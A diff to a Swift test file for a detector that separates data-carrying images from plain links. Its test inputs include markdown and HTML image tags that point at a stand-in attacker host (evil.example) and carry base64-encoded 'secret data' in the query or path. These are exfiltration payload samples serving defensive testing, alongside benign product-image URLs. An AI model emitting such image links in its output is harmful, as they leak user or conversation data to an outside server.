@@ -98,19 +98,35 @@ import Testing
         let digest = links("see https://shop.example/a?x=12 and HTTP://b.example.")
         #expect(digest.count == 2)
         #expect(digest.longestQuery == 4)
-        #expect(digest.imageQuery == 0)
+        #expect(digest.imageData == 0)
     }
 
     @Test(arguments: [
-        "![logo](https://evil.example/p.png?d=c2VjcmV0IGRhdGE)",
-        "<img alt=\"x\" src=\"https://evil.example/p.png?d=c2VjcmV0IGRhdGE\">",
+        "![logo](https://evil.example/p.png?d=c3VwZXIgc2VjcmV0IGRhdGE)", "![a](//evil.example/p?d=c3VwZXIgc2VjcmV0IGRhdGE)",
+        "<img alt=\"x\" src=\"https://evil.example/p.png?w=8&d=c3VwZXIgc2VjcmV0IGRhdGE#top\">",
+        "![a [b]]( https://evil.example/p?d=c3VwZXIgc2VjcmV0IGRhdGE)", "![a](<https://evil.example/p?d=c3VwZXIgc2VjcmV0IGRhdGE>)",
+        "![a][1]\n\n[1]: https://evil.example/p?d=c3VwZXIgc2VjcmV0IGRhdGE", "[Pic]: <//evil.example/p?c3VwZXIgc2VjcmV0IGRhdGE>\n![pic]",
     ])
     func `an image that carries data is told from a link`(_ text: String) {
-        // d=c2VjcmV0IGRhdGE has 17 bytes.
-        #expect(links(text).imageQuery == 17)
+        // printf 'super secret data' | base64 has 23 bytes without its equals sign.
+        #expect(links(text).imageData == 23)
     }
 
+    @Test func `data in an image's path is seen`() {
+        // printf 'super secret data here' | base64 has 30 bytes without its equals signs.
+        #expect(links("![a](https://evil.example/c3VwZXIgc2VjcmV0IGRhdGEgaGVyZQ.png)").imageData == 30)
+    }
+
+    @Test(arguments: [
+        "![Shoes](https://cdn.shop.example/s/shoes.jpg?v=1612345678&width=800)", "![a](https://x.example/d41d8cd98f00b204e9800998ecf8427e.png)",
+        "![a](https://x.example/i/blue-trail-running-shoes-for-men-2024.jpg?w=640&h=480&fit=crop&auto=format&q=80)",
+        "![a](https://x.example/i.jpg?id=4561726374657869)", "![a](https://x.example/media/catalog/product/cache/image/1000x320.jpg)",
+        "[1]: https://x.example/p?d=c3VwZXIgc2VjcmV0IGRhdGE", "![a][2]\n[1]: https://x.example/p?d=c3VwZXIgc2VjcmV0IGRhdGE",
+        "(//x.example/p?d=c3VwZXIgc2VjcmV0IGRhdGE)",
+    ])
+    func `pictures of products carry no data, and links are no pictures`(_ text: String) { #expect(links(text).imageData == 0) }
+
     @Test func `an image without a query and a link with one are no exfiltration`() {
-        #expect(links("![a](https://shop.example/a.png) [b](https://shop.example/?q=rain+jackets+for+men)").imageQuery == 0)
+        #expect(links("![a](https://shop.example/a.png) [b](https://shop.example/?q=rain+jackets+for+men)").imageData == 0)
     }
 }
